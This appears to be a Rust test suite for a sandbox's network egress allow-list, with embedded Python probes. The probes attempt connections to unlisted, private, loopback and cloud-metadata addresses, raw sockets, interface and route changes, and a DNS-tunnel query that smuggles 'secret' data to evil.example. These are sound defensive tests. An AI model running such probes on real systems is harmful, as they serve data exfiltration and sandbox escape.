//! The allow-list: what is listed is reached with the means of every program, and nothing else is.
//!
//! Each test has a network of its own with servers at public addresses. What arrived is read from
//! their log: that judges, not what the script says.

use automa_sandbox::EgressEvent;
use automa_tests::{
    Run, User, automa, bash, command_of,
    network::{Network, OWN_ADDRESS},
    python,
};

mod embedded;
mod limits;
mod tools;

/// Names and where they lead.
const HOSTS: &str = "192.0.2.10 www.example.com api.example.com deep.api.example.com\n\
    2001:db8::10 www.example.com six.example.com\n\
    192.0.2.20 example.com evilexample.com www.example.com.evil.example\n\
    203.0.113.5 other.example\n\
    127.0.0.1 loopback.example mixed.example\n\
    192.0.2.10 mixed.example\n\
    10.77.0.1 own.example\n\
    10.78.0.5 private.example\n\
    169.254.169.254 metadata.example\n\
    100.64.0.1 shared.example\n";

fn network() -> Network {
    Network::new(HOSTS, &["www.example.com", "pypi.example.com"], include_str!("egress/server.py"))
}

/// What arrived at the servers, each line once and in order.
fn arrived(network: &Network) -> Vec<String> {
    let mut lines: Vec<String> = network.file("log").lines().map(str::to_owned).collect();
    lines.sort();
    lines.dedup();
    lines
}

/// The events of a report, as a person would write them.
fn events(run: &Run) -> Vec<String> {
    let shown = |event: &EgressEvent| {
        let port = event.port.map_or_else(String::new, |port| format!(":{port}"));
        format!("{}{port} {}", event.host, event.verdict)
    };
    run.report.as_ref().unwrap().egress.iter().map(shown).collect()
}

/// Who makes attempts, and in what kind of sandbox.
fn everybody() -> Vec<(User, &'static str)> {
    User::all().into_iter().flat_map(|user| [(user, "--cold"), (user, "--warm")]).collect()
}

/// Makes attempts in Python, one after the other, with these destinations allowed, and compares
/// what became of each with what was expected.
#[track_caller]
fn attempts(
    network: &Network,
    (user, start): (User, &str),
    allowed: &[&str],
    expected: &[(&str, &str)],
) -> Run {
    let attempts: Vec<_> =
        expected.iter().map(|(attempt, _)| format!("lambda: ({attempt})")).collect();
    let attempts = format!("tell([{}])\n", attempts.join(",\n"));
    let source = [include_str!("probes/attempts.py"), CONNECT, &attempts].concat();
    let script = allowed
        .iter()
        .fold(python(source), |script, destination| script.flag("--allow-net", destination));
    let run = script.flags("--cpus 2").flags(start).run_in(network, user);
    run.exited(0);
    let told: Vec<String> = serde_json::from_str(run.stdout.trim()).unwrap();
    let wanted: Vec<&str> = expected.iter().map(|(_, expected)| *expected).collect();
    assert_eq!(told, wanted, "for {user:?}, {start}, of {expected:#?}: {run:#?}");
    run
}

const CONNECT: &str = "\
def greeting(host, port, family=0):
    for family, kind, proto, _, address in socket.getaddrinfo(host, port, family, socket.SOCK_STREAM):
        with socket.socket(family, kind, proto) as client:
            client.settimeout(30)
            client.connect(address)
            return client.recv(100).decode()
def literal(address, port):
    with socket.socket(socket.AF_INET6 if ':' in address else socket.AF_INET) as client:
        client.settimeout(30)
        client.connect((address, port))
        return client.recv(100).decode()
def datagram(host, port):
    family, kind, proto, _, address = socket.getaddrinfo(host, port, 0, socket.SOCK_DGRAM)[0]
    with socket.socket(family, kind, proto) as client:
        client.settimeout(30)
        client.connect(address)
        client.send(b'x')
        return client.recv(100).decode()
def link_down():
    with socket.socket() as own: fcntl.ioctl(own, 0x8914, struct.pack('16sH14x', b'lo', 0))
def route():
    own = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
    body = struct.pack('8BI', 2, 0, 0, 0, 254, 4, 0, 1, 0)
    own.send(struct.pack('IHHII', 16 + len(body), 24, 0x605, 1, 0) + body)
    error = struct.unpack_from('i', own.recv(4096), 16)[0]
    if error: raise OSError(-error, 'netlink')
";

#[test]
fn plain_sockets_reach_what_is_listed_and_nothing_else() {
    for who in everybody() {
        let network = network();
        let run = attempts(
            &network,
            who,
            &["api.example.com:13", "*.example.com:17", "192.0.2.77:13", "[2001:db8::77]:13"],
            &[
                ("greeting('api.example.com', 13)", "192.0.2.10 13"),
                ("greeting('API.Example.COM.', 13)", "192.0.2.10 13"),
                ("greeting('deep.api.example.com', 17)", "192.0.2.10 17"),
                ("literal('192.0.2.77', 13)", "192.0.2.77 13"),
                ("literal('::ffff:192.0.2.77', 13)", "192.0.2.77 13"),
                ("literal('2001:db8::77', 13)", "2001:db8::77 13"),
                // Listed with another port; not listed; not below the domain.
                ("greeting('www.example.com', 13)", "ECONNRESET"),
                ("greeting('other.example', 13)", "gai -2"),
                ("greeting('example.com', 17)", "gai -2"),
                ("greeting('evilexample.com', 17)", "gai -2"),
                ("greeting('www.example.com.evil.example', 17)", "gai -2"),
                // The address of a listed host is not listed by that.
                ("literal('192.0.2.10', 13)", "ECONNRESET"),
                ("literal('192.0.2.20', 13)", "ECONNRESET"),
                ("literal('198.18.99.99', 13)", "ECONNRESET"),
                ("literal('127.0.0.1', 13)", "ECONNRESET"),
                ("literal('::1', 13)", "ECONNRESET"),
                ("literal('0.0.0.0', 13)", "ECONNRESET"),
                ("literal('169.254.169.254', 13)", "ECONNRESET"),
                ("literal('fd00:ec2::254', 13)", "ECONNRESET"),
                // Ways to write 192.0.2.77, and 192.0.2.10, that inet_aton(3) knows.
                ("greeting('0xc0.0.2.77', 13)", "192.0.2.77 13"),
                ("greeting('3221225994', 13)", "ECONNRESET"),
                ("greeting('0300.0.02.012', 13)", "ECONNRESET"),
                // No listener, and no rule that would let it be connected to.
                ("literal('192.0.2.77', 22)", "EACCES"),
                ("greeting('api.example.com', 80)", "EACCES"),
            ],
        );
        assert_eq!(
            arrived(&network),
            ["192.0.2.10 13", "192.0.2.10 17", "192.0.2.77 13", "2001:db8::77 13"]
        );
        let events = events(&run);
        for expected in [
            "api.example.com:13 allowed",
            "deep.api.example.com:17 allowed",
            "192.0.2.77:13 allowed",
            "2001:db8::77:13 allowed",
            "www.example.com:13 refused: not on the allow-list",
            "evilexample.com refused: not on the allow-list",
            "192.0.2.10:13 refused: not on the allow-list",
            "169.254.169.254:13 refused: not on the allow-list",
        ] {
            assert!(events.iter().any(|event| event == expected), "{expected}: {events:#?}");
        }
        let report = run.report.unwrap();
        let api = report.egress.iter().find(|event| event.host == "api.example.com").unwrap();
        assert_eq!((api.count, api.sent.0, api.received.0), (2, 0, 26));
        assert_eq!(api.address, Some("192.0.2.10".parse().unwrap()));
    }
}

/// What a name leads to is its owner's to say, and can change between two questions.
#[test]
fn a_name_leads_neither_home_nor_into_a_private_network() {
    let private = "the name leads into a private network";
    let reserved = "a loopback, link-local or reserved address";
    let cases = [
        ("loopback.example", reserved),
        ("metadata.example", reserved),
        ("own.example", private),
        ("private.example", private),
        ("shared.example", private),
        ("nowhere.example", "the name has no address"),
    ];
    let listed: Vec<String> = cases.iter().map(|(name, _)| format!("{name}:13")).collect();
    let own = format!("{OWN_ADDRESS}:13");
    let mut listed: Vec<&str> = listed.iter().map(String::as_str).collect();
    listed.extend(["mixed.example:13", "10.78.0.5:13", &own]);
    let rows = cases.map(|(name, _)| (format!("greeting('{name}', 13)"), "ECONNRESET"));
    let own = format!("literal('{OWN_ADDRESS}', 13)");
    let mut rows: Vec<_> = rows.iter().map(|(row, expected)| (row.as_str(), *expected)).collect();
    rows.extend([
        // One of its addresses is good.
        ("greeting('mixed.example', 13)", "192.0.2.10 13"),
        // A private address that is listed as such is meant; the machine's own never is.
        ("literal('10.78.0.5', 13)", "10.78.0.5 13"),
        (own.as_str(), "ECONNRESET"),
    ]);
    for who in everybody() {
        let network = network();
        let run = attempts(&network, who, &listed, &rows);
        assert_eq!(arrived(&network), ["10.78.0.5 13", "192.0.2.10 13", "name nowhere.example"]);
        let events = events(&run);
        for (name, reason) in cases {
            let expected = format!("{name}:13 refused: {reason}");
            assert!(events.contains(&expected), "{expected}: {events:#?}");
        }
        let own = format!("{OWN_ADDRESS}:13 refused: an address of this machine");
        assert!(events.contains(&own), "{events:#?}");
    }
}

/// Only a connection to a listed name has that name looked up, and only as it was listed: whatever
/// else is asked for is answered inside.
#[test]
fn questions_for_names_carry_nothing_out() {
    let ask = "\
def ask(name, server, kind=1):
    labels = b''.join(bytes([len(label)]) + label.encode() for label in name.split('.'))
    query = b'\\x12\\x34\\x01\\0\\0\\1\\0\\0\\0\\0\\0\\0' + labels + b'\\0' + struct.pack('>HH', kind, 1)
    family = socket.AF_INET6 if ':' in server else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as client:
        client.settimeout(30)
        client.sendto(query, (server, 53))
        answer, sender = client.recvfrom(4096)
    with socket.socket(family) as client:
        client.settimeout(30)
        client.connect((server, 53))
        client.sendall(struct.pack('>H', len(query)) + query)
        stream = client.makefile('rb')
        assert stream.read(struct.unpack('>H', stream.read(2))[0]) == answer
    assert sender[0] == server, sender
    return f'{answer[3] & 15} {answer[7]}'
";
    let tunnel = format!("ask('{}.evil.example', '8.8.8.8')", "secret".repeat(10));
    for user in User::all() {
        let network = network();
        let script = python(
            [
                include_str!("probes/attempts.py"),
                ask,
                CONNECT,
                &format!(
                    "tell([lambda: ask('www.example.com', '8.8.8.8'),\n\
                     lambda: ask('www.example.com', '2001:4860:4860::8888'),\n\
                     lambda: ask('www.example.com', '127.0.0.53', 28),\n\
                     lambda: ask('www.example.com', '192.0.2.53', 16),\n\
                     lambda: {tunnel},\n\
                     lambda: ask('evil.example', '192.0.2.53', 16),\n\
                     lambda: greeting('unknown.example.com', 13)])\n"
                ),
            ]
            .concat(),
        );
        let run = script.flag("--allow-net", "*.example.com:13").run_in(&network, user);
        run.exited(0);
        let expected = r#"["0 1", "0 1", "0 0", "0 0", "3 0", "3 0", "ECONNRESET"]"#;
        assert_eq!(run.stdout.trim(), expected, "{run:#?}");
        assert_eq!(arrived(&network), ["name unknown.example.com"]);
        let refused =
            format!("{}.evil.example refused: not on the allow-list", "secret".repeat(10));
        assert!(events(&run).contains(&refused), "{run:#?}");
    }
}

/// There is TCP, and names; and no way to be a server, or to change the network.
#[test]
fn other_protocols_lead_nowhere() {
    for who in everybody() {
        let network = network();
        attempts(
            &network,
            who,
            &["www.example.com:443"],
            &[
                // QUIC: nobody listens, which is told at once.
                ("datagram('www.example.com', 443)", "ECONNREFUSED"),
                ("datagram('192.0.2.10', 123)", "ECONNREFUSED"),
                ("datagram('2001:db8::10', 443)", "ECONNREFUSED"),
                ("socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1)", "EPERM"),
                ("socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)", "EPERM"),
                ("socket.socket().bind(('127.0.0.1', 8080))", "EACCES"),
                ("socket.socket().bind(('0.0.0.0', 0))", "EACCES"),
                ("socket.socket().bind(('0.0.0.0', 443))", "EACCES"),
                ("socket.socket(type=socket.SOCK_DGRAM).bind(('0.0.0.0', 53))", "EACCES"),
                ("link_down()", "EPERM"),
                ("route()", "EPERM"),
            ],
        );
        assert_eq!(arrived(&network), [] as [&str; 0]);
    }
}

/// Without a network, and for a name that is not listed, no program waits for a resolver. If each
/// of these waited its five seconds, they would not be done in time.
#[test]
fn names_that_lead_nowhere_do_so_at_once() {
    let source = "import socket\n\
        for number in range(40):\n\
        \x20   try: socket.getaddrinfo(f'h{number}.example', 80)\n\
        \x20   except socket.gaierror as error: assert error.errno == -2, error\n\
        \x20   else: raise SystemExit('found')\n";
    for user in User::all() {
        python(source).flags("--wall 60s").run_as(user).exited(0);
        let listed = python(source).flags("--wall 60s --allow-net www.example.com:443");
        let report = listed.run_as(user).exited(0).report.clone().unwrap();
        assert_eq!(report.egress.len(), 40);
    }
}

/// One sandbox's network is not the next one's, and without a list there is none.
#[test]
fn without_a_list_there_is_no_network() {
    for user in User::all() {
        let network = network();
        let run = bash("cat /etc/resolv.conf; (exec 3<>/dev/tcp/192.0.2.10/13) 2>&1; ip -o link");
        let run = run.run_in(&network, user);
        assert!(run.stdout.contains("Permission denied"), "{run:#?}");
        assert!(!run.stdout.contains("nameserver"), "{run:#?}");
        assert!(!run.stdout.contains("UP"), "{run:#?}");
        assert_eq!(arrived(&network), [] as [&str; 0]);
        assert_eq!(run.report.unwrap().egress, []);
    }
}

#[test]
fn people_are_told_what_was_reached_and_what_was_not() {
    let source =
        "(exec 3<>/dev/tcp/api.example.com/13 && cat <&3)\ngetent hosts other.example\ntrue";
    for user in User::all() {
        let (network, script) = (network(), bash(source));
        let mut command = command_of(automa(), User::Root);
        command.arg("run").arg(script.file()).args(["--report", "text"]);
        command.args(["--allow-net", "api.example.com:13"]);
        let output = network.around(&command, user).output().unwrap();
        let told = String::from_utf8_lossy(&output.stderr);
        for line in [
            "    network     api.example.com:13 allowed; 0 B sent, 13 B received\n",
            "    network     other.example refused: not on the allow-list",
        ] {
            assert!(told.contains(line), "{line}: {told}");
        }
    }
}

#[test]
fn a_list_that_cannot_be_is_refused() {
    for (destination, part) in [
        ("example.com", "write HOST:PORT"),
        ("https://example.com", "write HOST:PORT"),
        ("127.0.0.1:80", "never reached from a sandbox"),
        ("*:443", "stands for whole parts"),
    ] {
        let run = bash("true").flag("--allow-net", destination).run_as(User::Ordinary);
        assert!(run.code != 0 && run.report.is_none(), "{run:#?}");
        assert!(run.stderr.contains(part), "{run:#?}");
    }
    let ports = (1..34).map(|port| format!("--allow-net a.example:{port}"));
    let run = bash("true").flags(&ports.collect::<Vec<_>>().join(" ")).run_as(User::Ordinary);
    assert_eq!(run.code, 125);
    assert!(run.stderr.contains("33 ports; the most is 32"), "{run:#?}");
}
